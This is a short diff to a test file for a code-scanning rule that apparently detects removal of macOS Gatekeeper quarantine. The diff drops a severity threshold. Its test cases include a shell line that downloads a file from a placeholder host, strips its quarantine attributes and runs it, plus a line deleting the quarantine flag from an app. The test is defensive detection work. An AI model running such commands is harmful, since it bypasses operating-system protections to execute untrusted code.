@@ -2,7 +2,6 @@ import { describeCodeRule, py, sh, text } from '../../testing/code-rule-cases.ts
 import { gateRemoval } from './gate-removal.rule.ts';
 
 describeCodeRule(gateRemoval, {
-  atLeast: 'MEDIUM',
   caught: [
     sh('curl -o a https://a.example.invalid/a\nxattr -c a\n./a'),
     sh('xattr -d com.apple.quarantine /Applications/Tool.app'),
